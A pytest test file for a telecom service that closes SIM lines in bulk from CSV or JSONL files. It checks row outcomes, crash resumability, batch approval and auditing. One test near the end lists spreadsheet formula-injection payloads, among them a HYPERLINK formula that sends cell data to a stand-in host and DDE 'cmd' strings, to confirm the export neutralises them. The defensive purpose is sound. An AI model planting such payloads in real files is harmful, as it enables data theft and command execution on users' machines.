"""Bulk closure from a file: outcomes per row, resumability after a crash, batch approval."""

import csv
import json

import pytest
from sqlalchemy import func, select

from simexit.domain.application_number import new_application_number
from simexit.domain.errors import DomainError
from simexit.domain.state_machine import ActorType
from simexit.services.bulk.approval import approve_batch
from simexit.services.bulk.closure import (
    BulkOptions,
    batch_progress,
    batch_results,
    close_file,
    run_batch,
    start_batch,
    write_results,
)
from simexit.services.closure.applications import Actor, ApplyRequest, apply, show
from simexit.services.closure.precheck import precheck
from simexit.store import bulk_repo
from simexit.store.tables import application_events, applications, lines
from simexit.store.tables_bulk import bulk_items
from tests.factories import make_line

STORE = BulkOptions(channel="store", identity_method="id_document_inspected", staff_ref="clerk1", staff_role="agent")
REVIEWER = Actor(ActorType.STAFF, "rita", "reviewer")


def count(app, table, *where):
    with app.db.read() as c:
        return c.execute(select(func.count()).select_from(table).where(*where)).scalar_one()


def iccid_of(app, msisdn):
    with app.db.read() as c:
        return c.execute(select(lines.c.iccid).where(lines.c.msisdn == msisdn)).scalar_one()


@pytest.fixture
def fleet(app):
    """Two brands that take store applications: hansanet (DE, approves clean ones) and huaxin (CN, a person
    reviews every one)."""
    return {
        "de_clean": make_line(app, "hansanet")["msisdn"],
        "de_clean2": make_line(app, "hansanet")["msisdn"],
        "de_port": make_line(app, "hansanet", port_out_pending=True)["msisdn"],
        "cn_clean": make_line(app, "huaxin", kind="sim")["msisdn"],
        "cn_clean2": make_line(app, "huaxin", kind="sim")["msisdn"],
        "cn_arrears": make_line(app, "huaxin", kind="sim", unpaid=[1200])["msisdn"],
        "online_only": make_line(app, "liuliang", kind="data")["msisdn"],
    }


def by_line(results):
    return {r["line"]: r for r in results}


def test_csv_of_msisdns_and_iccids(app, fleet, tmp_path):
    f = tmp_path / "fleet.csv"
    de2_iccid = iccid_of(app, fleet["de_clean2"])
    f.write_text(
        "msisdn,iccid,effective_date,reason,note\n"
        f"{fleet['de_clean']},,,business_closed,fleet retired\n"
        f",{de2_iccid},,,\n"
        f"{fleet['de_port']},,,,\n"
        f"{fleet['cn_clean']},,,,\n"
        f"{fleet['cn_arrears']},,,,\n"
        f"{fleet['online_only']},,,,\n"
        "+8613900009999,,,,\n"
        "+1234567,,,,\n"
        "not a number,,,,\n"
        f"{fleet['cn_clean2']},,yesterday,,\n"
        f"{fleet['cn_clean2']},,,why_not,\n"
        f"{fleet['de_clean']},,,,\n", encoding="utf-8")
    out = tmp_path / "result.csv"
    res = close_file(app, f, STORE, out=out, chunk_size=4)
    assert res["state"] == "done" and res["total"] == res["done"] == 12
    assert res["counts"] == {"applied": 3, "blocked": 2, "refused": 2, "invalid": 4, "already_open": 1}

    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [int(r["row"]) for r in rows] == list(range(2, 14))
    r = {(x["row"]): x for x in rows}
    assert (r["9"]["outcome"], r["9"]["codes"]) == ("invalid", "MSISDN_INVALID")
    r = {str(int(x["row"]) - (1 if int(x["row"]) > 9 else 0)): x for x in rows if x["row"] != "9"}
    assert r["2"]["outcome"] == "applied" and r["2"]["status"] == "approved"
    assert r["3"]["outcome"] == "applied" and r["3"]["line"] == de2_iccid
    assert (r["4"]["outcome"], r["4"]["codes"]) == ("blocked", "PORT_OUT_PENDING")
    assert r["5"]["outcome"] == "applied" and r["5"]["status"] == "pending_review"
    assert (r["6"]["outcome"], r["6"]["codes"]) == ("blocked", "ARREARS")
    assert (r["7"]["outcome"], r["7"]["codes"]) == ("refused", "CHANNEL_NOT_OFFERED")
    assert (r["8"]["outcome"], r["8"]["codes"]) == ("refused", "LINE_NOT_FOUND")
    assert (r["9"]["outcome"], r["9"]["codes"]) == ("invalid", "MSISDN_INVALID")
    assert (r["10"]["outcome"], r["10"]["codes"]) == ("invalid", "EFFECTIVE_DATE_INVALID")
    assert "yesterday" in r["10"]["message"]
    assert (r["11"]["outcome"], r["11"]["codes"]) == ("invalid", "REASON_UNKNOWN")
    # The same line twice in one file: the second row gets the first row's application.
    assert r["12"]["outcome"] == "already_open" and r["12"]["application_no"] == r["2"]["application_no"]
    assert count(app, applications) == 3

    # The application is the same as one made singly: the timeline, the quote and the batch.
    a = show(app, r["2"]["application_no"])
    assert a["batch_id"] == res["batch_id"] and a["reason_code"] == "business_closed"
    assert a["reason_text"] == "fleet retired" and a["staff_ref"] == "clerk1"
    assert [e["event"] for e in a["timeline"]] == ["submitted", "queued_for_review", "approved"]
    assert a["timeline"][0]["actor_id"] == "clerk1" and a["timeline"][0]["channel"] == "store"
    assert a["quote"] == precheck(app, fleet["de_clean"]).quote.to_dict()
    assert a["refund_method"] == "store_cash"


def test_jsonl_with_bad_rows_and_an_open_application(app, fleet, tmp_path):
    single = apply(app, ApplyRequest(fleet["cn_clean"], "store", "id_document_inspected", staff_ref="clerk9",
                                     consequences_confirmed=["NO_REACTIVATION", "DATA_ERASURE", "REFUND"],
                                     refund_method="store_cash"))
    f = tmp_path / "fleet.jsonl"
    f.write_text("\n".join([
        json.dumps({"msisdn": fleet["cn_clean"]}),
        json.dumps({"iccid": iccid_of(app, fleet["de_clean2"]), "effective_date": "2026-12-15"}),
        "{not json",
        json.dumps({"reason": "other"}),
        json.dumps(["a list"]),
        json.dumps({"iccid": "8949000000000000001"}),
        "",
        json.dumps({"line": fleet["cn_arrears"]}),
    ]) + "\n", encoding="utf-8")
    res = close_file(app, f, STORE, out=tmp_path / "out.jsonl")
    got = [json.loads(x) for x in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [g["row"] for g in got] == [1, 2, 3, 4, 5, 6, 8]
    assert got[0]["outcome"] == "already_open" and got[0]["application_no"] == single.application_no
    assert got[1]["outcome"] == "applied"
    assert (got[2]["outcome"], got[2]["codes"]) == ("invalid", ["ROW_NOT_JSON"])
    assert (got[3]["outcome"], got[3]["codes"]) == ("invalid", ["LINE_MISSING"])
    assert (got[4]["outcome"], got[4]["codes"]) == ("invalid", ["ROW_NOT_JSON"])
    assert got[5]["outcome"] == "invalid" and got[5]["codes"] == ["ICCID_CHECK_DIGIT"]
    assert (got[6]["outcome"], got[6]["codes"]) == ("blocked", ["ARREARS"])
    assert res["counts"]["applied"] == 1
    applied = show(app, got[1]["application_no"])
    assert applied["effective_date"] == "2026-12-15" and applied["status"] == "approved"
    assert batch_results(app, res["batch_id"], after_row=5, limit=1)[0]["row"] == 6


def test_a_crash_mid_file_then_a_rerun_does_nothing_twice(app, fleet, tmp_path, monkeypatch):
    f = tmp_path / "fleet.csv"
    f.write_text("\n".join(fleet[k] for k in ("de_clean", "de_clean2", "cn_clean", "cn_clean2", "cn_arrears",
                                               "de_port")) + "\n", encoding="utf-8")
    batch = start_batch(app, f, STORE)
    real, calls = bulk_repo.insert_items, []

    def crash_on_second_chunk(conn, rows):
        calls.append(len(rows))
        if len(calls) == 2:
            raise RuntimeError("power cut")
        real(conn, rows)

    monkeypatch.setattr(bulk_repo, "insert_items", crash_on_second_chunk)
    with pytest.raises(RuntimeError, match="power cut"):
        run_batch(app, batch["batch_id"], f, chunk_size=2)
    mid = batch_progress(app, batch["batch_id"])
    assert (mid["state"], mid["done"], mid["total"]) == ("running", 2, 6)
    assert count(app, applications) == 2  # the second chunk's applications were rolled back with it

    monkeypatch.setattr(bulk_repo, "insert_items", real)
    original = f.read_text(encoding="utf-8")
    f.write_text(original.replace(fleet["de_port"], fleet["de_clean"]), encoding="utf-8")
    with pytest.raises(DomainError) as e:
        run_batch(app, batch["batch_id"], f)
    assert e.value.code == "BATCH_FILE_CHANGED"
    f.write_text(original, encoding="utf-8")
    seen = []
    again = close_file(app, f, STORE, progress=lambda d, t: seen.append((d, t)))
    assert (again["state"], again["done"], again["batch_id"]) == ("done", 6, batch["batch_id"])
    assert seen[0] == (2, 6) and seen[-1] == (6, 6)
    assert again["counts"] == {"applied": 4, "blocked": 2}
    assert count(app, applications) == 4
    assert count(app, bulk_items) == 6
    # Each application has its own events once: submitted, queued (+ approved for hansanet).
    assert count(app, application_events) == 2 * 3 + 2 * 2

    # A third run of the finished file changes nothing.
    assert close_file(app, f, STORE)["counts"] == again["counts"]
    assert count(app, applications) == 4


def test_the_same_file_with_other_options_is_refused(app, fleet, tmp_path):
    f = tmp_path / "fleet.csv"
    f.write_text(fleet["cn_clean"] + "\n", encoding="utf-8")
    start_batch(app, f, STORE)
    with pytest.raises(DomainError) as e:
        start_batch(app, f, BulkOptions(channel="hotline", identity_method="service_password", staff_ref="x"))
    assert e.value.code == "BATCH_OPTIONS_DIFFER"
    with pytest.raises(DomainError) as e:
        start_batch(app, f, BulkOptions(channel="store", identity_method="otp"))
    assert e.value.code == "STAFF_REQUIRED"


def test_approve_a_batch_line_by_line_then_as_a_whole(app, tmp_path):
    numbers = [make_line(app, "huaxin", kind="sim")["msisdn"] for _ in range(5)]
    f = tmp_path / "fleet.csv"
    f.write_text("line\n" + "\n".join(numbers) + "\n", encoding="utf-8")
    res = close_file(app, f, STORE, chunk_size=2)
    nos = [r["application_no"] for r in batch_results(app, res["batch_id"])]
    assert all(show(app, n)["status"] == "pending_review" for n in nos)

    one = approve_batch(app, res["batch_id"], REVIEWER, only=[nos[0].lower(), new_application_number(), "nonsense"])
    assert one["approved"] == 1
    assert {r["code"] for r in one["refused"]} == {"APPLICATION_NOT_IN_BATCH", "APPLICATION_NO_INVALID"}
    a = show(app, nos[0])
    assert a["status"] == "approved" and a["decided_by"] == "rita"
    assert a["timeline"][-1]["event"] == "approved" and a["timeline"][-1]["actor_id"] == "rita"
    with pytest.raises(DomainError) as e:
        approve_batch(app, res["batch_id"], REVIEWER, only=[nos[0]])
    assert e.value.code == "TRANSITION_NOT_ALLOWED"

    whole = approve_batch(app, res["batch_id"], REVIEWER)
    assert whole == {"batch_id": res["batch_id"], "approved": 4, "refused": []}
    assert all(show(app, n)["status"] == "approved" for n in nos)
    assert approve_batch(app, res["batch_id"], REVIEWER)["approved"] == 0
    with pytest.raises(DomainError) as e:
        approve_batch(app, "B-nope", REVIEWER)
    assert e.value.code == "BATCH_NOT_FOUND"


def test_bulk_outcomes_agree_with_the_single_precheck(app, tmp_path):
    """The bulk path runs the same rules: every line it applies for is eligible singly, every one it blocks
    is blocked singly with the same codes."""
    made = [make_line(app, "huaxin", kind="sim", **kw)["msisdn"] for kw in (
        {}, {"unpaid": [500]}, {"services": ["WeChat"]}, {"devices": 1}, {"port_out_pending": True},
        {"identity_verified": False}, {"contract_end": "2027-06-30", "contract_start": "2025-06-30",
                                       "early_termination_fee_minor": 9900})]
    f = tmp_path / "mix.csv"
    f.write_text("\n".join(made) + "\n", encoding="utf-8")
    res = close_file(app, f, STORE)
    for r in batch_results(app, res["batch_id"]):
        pc = precheck(app, r["line"])
        blockers = [x.code for x in pc.findings if x.severity == "blocker"]
        assert (r["outcome"] == "applied") == pc.eligible
        assert r["codes"] == blockers


def test_batch_confirmations_and_refund_choices_apply_to_every_line(app, fleet, tmp_path):
    f = tmp_path / "two.csv"
    f.write_text(f"{fleet['de_clean']}\n{fleet['cn_clean']}\n", encoding="utf-8")
    partial = BulkOptions(channel="store", identity_method="id_document_inspected", staff_ref="clerk1",
                          confirm=["NO_REACTIVATION", "DATA_ERASURE"])
    res = close_file(app, f, partial)
    assert [r["codes"] for r in batch_results(app, res["batch_id"])] == [["CONSEQUENCES_NOT_CONFIRMED"]] * 2

    g = tmp_path / "two-again.csv"
    g.write_text(f"{fleet['de_clean']}\n", encoding="utf-8")
    bank = BulkOptions(channel="store", identity_method="id_document_inspected", staff_ref="clerk1",
                       refund_method="bank_transfer", refund_destination={"holder": "ACME GmbH"})
    res = close_file(app, g, bank)
    assert batch_results(app, res["batch_id"])[0]["codes"] == ["REFUND_DESTINATION_INCOMPLETE"]
    assert count(app, applications) == 0


def scheduled(app, numbers):
    """Per application number: its closure timer's kind or its first saga step, as a single approval leaves."""
    from simexit.store.tables_worker import saga_steps, timers

    out = {}
    with app.db.read() as c:
        for n in numbers:
            app_id = c.execute(select(applications.c.id).where(applications.c.application_no == n)).scalar_one()
            kinds = list(c.execute(select(timers.c.kind).where(timers.c.subject == str(app_id))).scalars())
            steps = list(c.execute(select(saga_steps.c.step).where(saga_steps.c.application_id == app_id)).scalars())
            out[n] = kinds + steps
    return out


def test_approved_batch_applications_are_scheduled_for_execution(app, fleet, tmp_path):
    """Approved in bulk (automatically, or by staff for the whole batch), an application is executed like any
    other: the bulk paths schedule its closure timer (or first step) in the approving transaction."""
    f = tmp_path / "fleet.csv"
    f.write_text(f"line\n{fleet['de_clean']}\n{fleet['cn_clean']}\n{fleet['cn_clean2']}\n", encoding="utf-8")
    res = close_file(app, f, STORE)
    nos = {r["line"]: r["application_no"] for r in batch_results(app, res["batch_id"])}
    auto, pending = nos[fleet["de_clean"]], [nos[fleet["cn_clean"]], nos[fleet["cn_clean2"]]]
    assert show(app, auto)["status"] == "approved"
    assert scheduled(app, [auto]) == {auto: ["closure_due"]}
    assert scheduled(app, pending) == {n: [] for n in pending}

    assert approve_batch(app, res["batch_id"], REVIEWER)["approved"] == 2
    assert scheduled(app, pending) == {n: ["closure_due"] for n in pending}


def test_a_batch_limited_to_brands_refuses_other_lines_as_not_found(app, fleet, tmp_path):
    f = tmp_path / "mixed.csv"
    f.write_text(f"msisdn\n{fleet['de_clean']}\n{fleet['cn_clean']}\n", encoding="utf-8")
    opts = BulkOptions(channel="store", identity_method="id_document_inspected", staff_ref="clerk1",
                       staff_role="store_clerk", brands=["huaxin"])
    res = close_file(app, f, opts)
    assert res["counts"] == {"refused": 1, "applied": 1}
    rows = batch_results(app, res["batch_id"])
    assert (rows[0]["outcome"], rows[0]["codes"], rows[0]["application_no"]) == ("refused", ["LINE_NOT_FOUND"], None)
    # the same file, unscoped (the CLI) or by another staff member, is another batch
    assert close_file(app, f, STORE)["batch_id"] != res["batch_id"]
    other = close_file(app, f, BulkOptions(**{**opts.to_json(), "staff_ref": "clerk2"}))
    assert other["batch_id"] not in (res["batch_id"],) and other["counts"] == {"refused": 1, "already_open": 1}


def test_bulk_applications_and_approvals_are_audited_like_single_ones(app, fleet, tmp_path):
    from simexit.services.privacy import audit

    f = tmp_path / "fleet.csv"
    f.write_text(f"line\n{fleet['de_clean']}\n{fleet['cn_clean']}\n", encoding="utf-8")
    res = close_file(app, f, STORE)
    nos = {r["line"]: r["application_no"] for r in batch_results(app, res["batch_id"])}
    auto, pending = nos[fleet["de_clean"]], nos[fleet["cn_clean"]]
    assert [e["action"] for e in audit.application_entries(app, auto)] == [
        "application.submitted", "application.queued_for_review", "application.approved"]
    assert [e["action"] for e in audit.application_entries(app, pending)] == [
        "application.submitted", "application.queued_for_review"]
    approve_batch(app, res["batch_id"], REVIEWER)
    last = audit.application_entries(app, pending)[-1]
    assert (last["action"], last["actor"], last["data"]["to"]) == ("application.approved", "rita", "approved")
    assert audit.verify(app).intact


def test_the_result_csv_cannot_run_a_formula_in_a_spreadsheet(app, fleet, tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
               "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1"]
    f = tmp_path / "hostile.csv"
    with f.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["msisdn", "reason"])
        w.writerows([[h, ""] for h in hostile] + [[fleet["de_clean"], "=cmd"], [fleet["de_clean2"], ""]])
    out = tmp_path / "hostile.result.csv"
    res = close_file(app, f, STORE, out=out)
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert [r["line"] for r in rows[:5]] == ["'" + h[:40] for h in hostile]
    for r in rows:
        for name, value in r.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value.lstrip("+").isdigit(), (name, value)
    assert rows[6]["line"] == fleet["de_clean2"] and rows[6]["outcome"] == "applied"  # a number stays as it is
    jsonl = tmp_path / "hostile.result.jsonl"  # JSON Lines is data, not a spreadsheet: kept as it was
    write_results(app, res["batch_id"], jsonl)
    assert [json.loads(x)["line"] for x in jsonl.read_text(encoding="utf-8").splitlines()[:5]] == [
        h[:40] for h in hostile]


@pytest.mark.parametrize("n", [1, 25])  # 25: COPY on PostgreSQL, which raises the driver's own error
def test_an_application_taken_meanwhile_is_row_taken_so_the_chunk_is_redone(app, fleet, tmp_path, n):
    f = tmp_path / "one.csv"
    f.write_text(f"msisdn\n{fleet['de_clean']}\n", encoding="utf-8")
    close_file(app, f, STORE)
    with app.db.read() as c:
        row = dict(c.execute(select(applications)).mappings().one())
    del row["id"]
    copies = [{**row, "application_no": new_application_number()} for _ in range(n - 1)] + [row]
    with pytest.raises(bulk_repo.RowTaken), app.db.write() as c:
        bulk_repo.insert_applications(c, copies)
    assert count(app, applications) == 1
